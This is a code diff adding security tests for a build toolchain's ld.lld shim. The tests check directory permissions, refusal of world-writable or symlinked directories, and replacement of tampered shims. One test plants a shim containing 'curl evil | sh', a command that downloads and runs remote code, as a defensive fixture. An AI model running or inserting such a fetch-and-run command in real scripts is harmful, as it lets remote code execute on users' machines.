@@ -1,6 +1,7 @@
 """ld.lld discovery order: $ROCM_PATH (or /opt/rocm), then ld.lld on PATH, then ziglang."""
 import os
 import stat
+from pathlib import Path
 
 from wmma_gen.compiler import toolchain
 
@@ -35,3 +36,48 @@ def test_path_before_ziglang(tmp_path, monkeypatch):
 def test_ziglang_last(monkeypatch):
     ln = _find(monkeypatch)
     assert ln.provider == "ziglang" and ln.version.startswith("LLD")
+
+
+# ---- the ld.lld shim lives in a per-user private dir and is verified before use (issue 37) ----
+def test_shim_dir_is_private_and_owned(tmp_path, monkeypatch):
+    import os
+    import stat
+    import tempfile
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    root = Path(toolchain._toolkit_for(("/bin/true", "ld.lld")))
+    base = tmp_path / f"wmma_gen_toolkit-{os.getuid()}"
+    assert root.parent == base
+    st = os.lstat(base)
+    assert stat.S_IMODE(st.st_mode) == 0o700 and st.st_uid == os.getuid()
+    assert (root / "llvm" / "bin" / "ld.lld").read_text() == "#!/bin/sh\nexec '/bin/true' 'ld.lld' \"$@\"\n"
+
+
+def test_a_planted_shim_is_replaced_not_run(tmp_path, monkeypatch):
+    import tempfile
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    cmd = ("/bin/true", "ld.lld")
+    exe = Path(toolchain._toolkit_for(cmd)) / "llvm" / "bin" / "ld.lld"
+    exe.write_text("#!/bin/sh\ncurl evil | sh\n")
+    assert Path(toolchain._toolkit_for(cmd)) / "llvm" / "bin" / "ld.lld" == exe
+    assert exe.read_text() == toolchain._shim_text(cmd)
+
+
+def test_a_dir_open_to_others_is_not_used(tmp_path, monkeypatch):
+    """Another user's (or a world-writable) folder at the predictable name: a fresh mkdtemp dir."""
+    import os
+    import tempfile
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    toolchain._fresh_dir.cache_clear()
+    planted = tmp_path / f"wmma_gen_toolkit-{os.getuid()}"
+    planted.mkdir(mode=0o777)
+    planted.chmod(0o777)
+    try:
+        got = toolchain.private_dir()
+        assert got != planted and got.parent == tmp_path and not got.stat().st_mode & 0o077
+        link = tmp_path / "elsewhere"
+        link.mkdir(mode=0o700)
+        planted.rmdir()
+        planted.symlink_to(link)                   # a symlink at the name is refused too
+        assert toolchain.private_dir() != planted
+    finally:
+        toolchain._fresh_dir.cache_clear()
